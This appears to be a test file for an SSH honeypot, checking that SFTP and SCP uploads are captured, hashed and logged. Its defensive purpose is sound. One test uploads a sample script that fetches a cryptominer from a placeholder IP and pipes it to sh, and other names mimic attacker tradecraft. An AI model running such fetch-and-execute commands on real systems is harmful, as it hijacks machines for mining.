"""Uploads through SSH: the SFTP subsystem (OpenSSH sftp, paramiko) over the session's copy-on-write
filesystem; uploaded files are stored by SHA-256 and reported as file.upload."""
import hashlib
import os
import subprocess

import pytest

from conftest import Sensor, free_port_base, wait_for

CONFIG = """
honeypots:
  trap:
    enabled: false
  telnet:
    enabled: false
  ssh:
    tcp_ports: [2222]
    hostname: web01
    auth_rules: ["root:123456", "*:!*"]
    accept_after: 0
"""


@pytest.fixture(scope="module")
def sensor(tmp_path_factory):
    s = Sensor(tmp_path_factory.mktemp("sftp"), CONFIG, free_port_base(), worker="ssh").start()
    yield s
    s.stop()


def uploads(sensor, name):
    return [e for e in sensor.events(event="file.upload") if e.get("filename") == name]


def test_openssh_sftp_put_get_ls(sensor, tmp_path):
    payload = b"\x7fELF" + os.urandom(300_000)  # several SFTP write requests
    local = tmp_path / "kworker"
    local.write_bytes(payload)
    batch = tmp_path / "batch"
    batch.write_text(f"cd /tmp\nput {local} kworker\nls -l\nmkdir .x\nrename kworker .x/kw\nget .x/kw {tmp_path}/back\n"
                     "get /etc/hostname " + str(tmp_path / "hostname") + "\nbye\n")
    # Commands on stdin rather than -b: batch mode would forbid the password sshpass types.
    with open(batch) as commands:
        r = subprocess.run(["sshpass", "-p", "123456", "sftp", "-P", str(2222 + sensor.offset), "-o", "StrictHostKeyChecking=no",
                            "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "root@127.0.0.1"],
                           stdin=commands, capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "-rw-r--r--" in r.stdout and "kworker" in r.stdout, r.stdout
    assert (tmp_path / "back").read_bytes() == payload, "what was uploaded reads back identically"
    assert (tmp_path / "hostname").read_text() == "web01\n"
    sha = hashlib.sha256(payload).hexdigest()
    e = wait_for(lambda: uploads(sensor, "/tmp/kworker"), 10)
    assert e and e[0]["sha256"] == sha and e[0]["size"] == len(payload), sensor.events(event="file.upload")
    stored = os.path.join(sensor.data, "artifacts", "sha256", sha[:2], sha)
    assert wait_for(lambda: os.path.exists(stored), 5)
    with open(stored, "rb") as f:
        assert f.read() == payload


def test_paramiko_sftp(sensor):
    paramiko = pytest.importorskip("paramiko")
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", port=2222 + sensor.offset, username="root", password="123456", allow_agent=False,
              look_for_keys=False, timeout=10)
    sftp = c.open_sftp()
    body = b"#!/bin/sh\ncurl -s http://198.51.100.1/xmrig | sh\n"
    with sftp.open("/root/.ssh_miner.sh", "w") as f:
        f.write(body)
    assert sftp.stat("/root/.ssh_miner.sh").st_size == len(body)
    sftp.chmod("/root/.ssh_miner.sh", 0o755)
    assert sftp.stat("/root/.ssh_miner.sh").st_mode & 0o777 == 0o755
    assert ".ssh_miner.sh" in sftp.listdir("/root")
    assert sftp.normalize(".") == "/root"
    with pytest.raises(IOError):
        sftp.stat("/nonexistent")
    sftp.remove("/root/.ssh_miner.sh")
    assert ".ssh_miner.sh" not in sftp.listdir("/root")
    c.close()
    e = wait_for(lambda: uploads(sensor, "/root/.ssh_miner.sh"), 10)
    assert e and e[0]["sha256"] == hashlib.sha256(body).hexdigest()


@pytest.mark.parametrize("legacy", [True, False], ids=["scp -O (scp -t sink)", "scp (over sftp)"])
def test_scp_upload(sensor, tmp_path, legacy):
    payload = os.urandom(70_000)
    local = tmp_path / ("bot-legacy" if legacy else "bot-sftp")
    local.write_bytes(payload)
    args = ["sshpass", "-p", "123456", "scp", "-P", str(2222 + sensor.offset), "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no"]
    if legacy:
        args.append("-O")
    r = subprocess.run(args + [str(local), "root@127.0.0.1:/tmp/"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    e = wait_for(lambda: uploads(sensor, f"/tmp/{local.name}"), 10)
    assert e and e[0]["sha256"] == hashlib.sha256(payload).hexdigest() and e[0]["size"] == len(payload)
